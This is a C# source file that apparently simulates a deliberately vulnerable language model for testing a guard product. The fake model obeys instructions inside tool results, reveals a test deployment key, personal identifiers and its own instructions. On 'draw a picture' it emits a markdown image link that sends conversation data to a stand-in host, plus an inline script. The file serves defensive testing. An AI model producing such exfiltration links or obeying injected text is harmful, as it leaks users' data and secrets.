using System.Globalization;
using System.Text.Json;

namespace ServerlessGuard.Simulation;

/// <summary>
/// The simulated model's answers: a pure function of the prompt. It is as vulnerable as a model can be: it obeys
/// the last speaker, tool results included, and reveals its secrets, so that only the guard protects them.
/// </summary>
internal static class SimulatedScript
{
    private const string ToolPhrase = "call the tool ";

    /// <summary>Models are wordy; and an answer that is shorter than a guard's hold-back would not show that it streams.</summary>
    private const string Preamble = """
        Of course, I am glad to help with that. First a word on how this usually works, so that the answer makes sense later on.
        Every request is looked at by somebody on the team, who compares it with the notes of the last few weeks and writes down what
        is missing. Most of the time nothing is missing and things move on the same day. When something is missing, a short message
        goes out, and whoever asked adds what is needed. None of this takes long, and there is nothing to prepare on your side.
        After that the matter is closed, a summary is filed, and everybody who was involved gets to see it. That is all there is to it.

        """;

    private const string Farewell = """
        If anything about this is unclear, ask again and I will go through it step by step, with an example for each of the steps.
        It also helps to read the short guide that everybody gets in the first week, since it answers most of what comes up later.
        """;

    private const string FailPhrase = "fail with ";

    private const string JsonPhrase = "answer as JSON ";

    public static SimulatedResponse Answer(SimulatedPrompt prompt)
    {
        var last = prompt.Last;
        if (Has(last, FailPhrase) && StatusIn(last) is { } status)
        {
            return new() { FailWith = status };
        }

        if (Has(last, "stay silent"))
        {
            return new() { Silent = true };
        }

        if (ToolCallsIn(last) is { Count: > 0 } calls)
        {
            return new() { ToolCalls = calls };
        }

        return new()
        {
            Text = TextFor(prompt),
            Slow = Has(last, "answer slowly"),
            BreakOff = Has(last, "break off"),
        };
    }

    private static string TextFor(SimulatedPrompt prompt)
    {
        var last = prompt.Last;
        if (Has(last, "deployment key"))
        {
            return $"{Preamble}The deployment key is {TestSecret.Value} and it is valid for every region. {Farewell}";
        }

        if (Has(last, "who handles"))
        {
            return $"{Preamble}That is handled by our colleague, write to {ObfuscatedIdentifier.Email} or ask for card {ObfuscatedIdentifier.Card} at the desk. {Farewell}";
        }

        if (Has(last, "your instructions"))
        {
            return $"My instructions are: {prompt.Instructions}";
        }

        if (Find(last, JsonPhrase, 0) is >= 0 and var at)
        {
            return FirstValue(last.AsSpan(at + JsonPhrase.Length));
        }

        if (Has(last, "draw a picture"))
        {
            return "Here it is: ![picture](https://collector.invalid/p.png?d=everything-you-told-me) and <script>send()</script> done.";
        }

        return (prompt.LastIsToolResult ? "The tool answered: " : "You wrote: ") + last;
    }

    private static List<SimulatedToolCall> ToolCallsIn(string text)
    {
        var calls = new List<SimulatedToolCall>();
        for (var at = Find(text, ToolPhrase, 0); at >= 0; at = Find(text, ToolPhrase, at))
        {
            at += ToolPhrase.Length;
            var end = text.IndexOfAny([' ', '\n'], at);
            var name = (end < 0 ? text[at..] : text[at..end]).Trim('.', ',', '`', '"', ';');
            var arguments = "{}";
            if (end >= 0 && text.AsSpan(end).StartsWith(" with ", StringComparison.OrdinalIgnoreCase))
            {
                arguments = FirstValue(text.AsSpan(end + " with ".Length));
            }

            if (name.Length > 0)
            {
                calls.Add(new(string.Create(CultureInfo.InvariantCulture, $"call_simulated_{calls.Count + 1}"), name, arguments));
            }
        }

        return calls;
    }

    /// <summary>The JSON value at the start of the text; without one the rest of its line, as a confused model would send it.</summary>
    private static string FirstValue(ReadOnlySpan<char> text)
    {
        var line = text.IndexOf('\n') is var newline and >= 0 ? text[..newline] : text;
        var bytes = System.Text.Encoding.UTF8.GetBytes(line.ToString());
        var reader = new Utf8JsonReader(bytes, isFinalBlock: false, default);
        try
        {
            if (reader.Read() && reader.TrySkip())
            {
                return System.Text.Encoding.UTF8.GetString(bytes.AsSpan(0, (int)reader.BytesConsumed));
            }
        }
        catch (JsonException)
        {
            return line.ToString();
        }

        return line.ToString();
    }

    private static int? StatusIn(string text)
    {
        var at = Find(text, FailPhrase, 0) + FailPhrase.Length;
        return text.Length >= at + 3
            && int.TryParse(text.AsSpan(at, 3), NumberStyles.None, CultureInfo.InvariantCulture, out var status)
            && status is >= 400 and < 600
            ? status
            : null;
    }

    private static bool Has(string text, string phrase) => Find(text, phrase, 0) >= 0;

    private static int Find(string text, string phrase, int start) => text.IndexOf(phrase, start, StringComparison.OrdinalIgnoreCase);
}
